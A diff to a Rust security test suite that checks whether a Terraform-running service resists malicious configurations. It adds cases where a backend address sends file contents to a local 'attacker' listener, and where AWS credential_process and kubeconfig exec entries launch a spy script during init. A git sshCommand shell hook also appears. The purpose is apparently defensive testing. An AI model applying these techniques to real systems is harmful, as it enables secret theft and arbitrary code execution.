@@ -29,6 +29,7 @@ pub(super) fn run(stage: &Stage, delivery: Delivery, module: &str, observed: &mu
         "terraform {\n  backend \"local\" {\n    path = \"state-${strrev(try(file(local.told), \"\"))}\"\n  }\n}\n";
     let files = [tells(), ("main.tf", format!("{module}{backend}"))];
     observed.add("A2", delivery, refused(stage, delivery, &files, &["local", "hint: "]));
+    observed.add("A2, kept", delivery, kept_backend(stage, delivery, module));
 
     let link = "module \"theft\" {\n  source = dirname(local.told)\n}\n";
     let files = [tells(), ("main.tf", format!("{module}{link}"))];
@@ -38,7 +39,9 @@ pub(super) fn run(stage: &Stage, delivery: Delivery, module: &str, observed: &mu
     stage.wait_for_wipe();
     observed.add("A3", delivery, Outcome::Nothing);
 
-    observed.add("A5", delivery, credential_process(stage, delivery, module));
+    let outcomes = SPIES.map(|spy| program_of_backend(stage, delivery, module, spy));
+    assert_eq!(outcomes[0], outcomes[1], "A5: a backend for each outcome");
+    observed.add("A5", delivery, outcomes[0]);
 
     let mark = stage.world.path("git-ran");
     let config = format!("[core]\n\tbare = true\n\tsshCommand = sh -c 'touch {}'\n", mark.display());
@@ -73,20 +76,59 @@ pub(super) fn run(stage: &Stage, delivery: Delivery, module: &str, observed: &mu
     observed.add("A15", delivery, Outcome::Refused);
 }
 
-/// A5: the program runs in `init`, when nothing is left.
-fn credential_process(stage: &Stage, delivery: Delivery, module: &str) -> Outcome {
+/// A2 with a backend that is kept: what it is given is computed by the full `init`, when there is nothing to read.
+fn kept_backend(stage: &Stage, delivery: Delivery, module: &str) -> Outcome {
     stage.attacker.forget();
-    let backend = "terraform {\n  backend \"s3\" {\n    bucket = \"none\"\n    key = \"none\"\n    region = \"us-east-1\"\n    \
-                   profile = \"spy\"\n    shared_config_files = [\"aws.conf\"]\n    skip_metadata_api_check = true\n  }\n}\n";
+    let docker = "regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", file(local.told))[0]";
+    let backend = format!(
+        "terraform {{\n  backend \"http\" {{\n    address = \"http://127.0.0.1:{}/state?loot=${{urlencode(strrev(try(file({docker}), \
+         try(file(local.told), \"gone\"))))}}\"\n  }}\n}}\n",
+        stage.attacker.port
+    );
+    let said = stage.apply(
+        &stage.configuration(&[("fetch.sh", TELLS.to_owned()), ("main.tf", format!("{module}{backend}"))]),
+        delivery.name(),
+    );
+    let sent = stage.attacker.everything();
+    assert!(String::from_utf8_lossy(&sent).contains("/state?loot=enog"), "A2 did not run: {}", said.all());
+    stage.wait_for_wipe();
+    if has(&stage.canary, &sent) { Outcome::Open } else { Outcome::Nothing }
+}
+
+/// A backend, and the file that makes it start `spy.sh`: of AWS and of Kubernetes.
+const SPIES: [(&str, &str, &str); 2] = [
+    (
+        "backend \"s3\" {\n    bucket = \"none\"\n    key = \"none\"\n    region = \"us-east-1\"\n    profile = \"spy\"\n    \
+         shared_config_files = [\"aws.conf\"]\n    skip_metadata_api_check = true\n  }",
+        "aws.conf",
+        "[profile spy]\ncredential_process = /bin/bash spy.sh\n",
+    ),
+    (
+        "backend \"kubernetes\" {\n    secret_suffix = \"none\"\n    config_path = \"kube.conf\"\n  }",
+        "kube.conf",
+        "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters: [{name: c, cluster: {server: \"https://127.0.0.1:1\"}}]\n\
+         contexts: [{name: c, context: {cluster: c, user: u}}]\nusers:\n- name: u\n  user:\n    exec: {apiVersion: \
+         client.authentication.k8s.io/v1beta1, command: /bin/bash, args: [spy.sh], interactiveMode: Never}\n",
+    ),
+];
+
+/// A5: the program runs in `init`, when nothing is left.
+fn program_of_backend(
+    stage: &Stage,
+    delivery: Delivery,
+    module: &str,
+    (backend, name, content): (&str, &'static str, &str),
+) -> Outcome {
+    stage.attacker.forget();
     let files = [
         ("fetch.sh", TELLS.to_owned()),
-        ("main.tf", format!("{module}{backend}")),
-        ("aws.conf", "[profile spy]\ncredential_process = /bin/bash spy.sh\n".to_owned()),
+        ("main.tf", format!("{module}terraform {{\n  {backend}\n}}\n")),
+        (name, content.to_owned()),
         ("library.sh", library(stage)),
         ("spy.sh", ". ./library.sh\nloot | tell A5\nexit 1\n".to_owned()),
     ];
     let said = stage.apply(&stage.configuration(&files), delivery.name());
-    let report = stage.attacker.report("A5").unwrap_or_else(|| panic!("A5 did not run: {}", said.all()));
+    let report = stage.attacker.report("A5").unwrap_or_else(|| panic!("A5 did not run by {name}: {}", said.all()));
     assert!(String::from_utf8_lossy(&report).contains("looted"), "{}", said.all());
     let shown = stage.world.run(&stage.world.newest());
     assert!(shown["receipts"][0]["modules"].to_string().contains("greeting"), "the module had come: {shown:#}");
